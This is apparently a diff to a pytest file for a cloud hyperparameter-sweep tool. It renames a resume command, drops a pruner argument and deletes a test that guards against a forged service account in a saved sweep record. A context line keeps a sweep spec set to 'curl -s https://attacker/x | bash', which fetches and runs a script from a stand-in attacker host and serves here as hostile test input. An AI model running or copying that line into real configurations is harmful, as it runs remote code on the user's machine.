@@ -145,7 +145,6 @@ SWEEP = Sweep(
     spec=Spec("curl -s https://attacker/x | bash"),
     metric="loss",
     goal="minimize",
-    pruner="none",
     wanted=1,
     parallel=1,
     seed=0,
@@ -162,27 +161,10 @@ def write(queue: Queue, **changed: object) -> None:
 def test_a_sweep_runs_in_the_buckets_that_the_person_names(job: Run, queue: Queue) -> None:
     pytest.importorskip("optuna")
     write(queue, buckets=["prod-bucket"])
-    done = job("sweep", "--resume", "s")
+    done = job("trials", "s", "--resume")
     assert done.code == 2
     assert "--resume: name the stacks or buckets of gs://prod-bucket again" in done.err
     assert queue.summaries() == {}
-
-
-def test_a_sweep_on_vertex_ai_runs_as_the_stack_says(
-    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:  # fmt: skip
-    pytest.importorskip("optuna")
-    from tpustack.jobs.sweep import Driver
-
-    image = "python:3.11"
-    forged = {**PLACE, "image": image, "account": "mighty@prod.iam.gserviceaccount.com"}
-    write(queue, places={BUCKET: forged})
-    assert "name the stacks (--stack) of" in job("sweep", "--resume", "s").err
-    begun: list[Driver] = []
-    monkeypatch.setattr(Driver, "run", lambda self: begun.append(self))
-    run("job", "sweep", "--resume", "s", "--stack", "dev", "--image", image)
-    assert begun[0].sweep.places[BUCKET]["account"] == EMAIL
 
 
 @pytest.mark.parametrize(
@@ -210,7 +192,7 @@ def test_a_damaged_sweep_record_is_reported_and_starts_nothing(
 ) -> None:
     pytest.importorskip("optuna")
     write(queue, **changed)
-    for command in (("trials", "s"), ("sweep", "--resume", "s")):
+    for command in (("trials", "s"), ("trials", "s", "--resume")):
         done = job(*command)
         assert done.code == 1
         assert "sweeps/s.json is not a record of a sweep: " in done.err
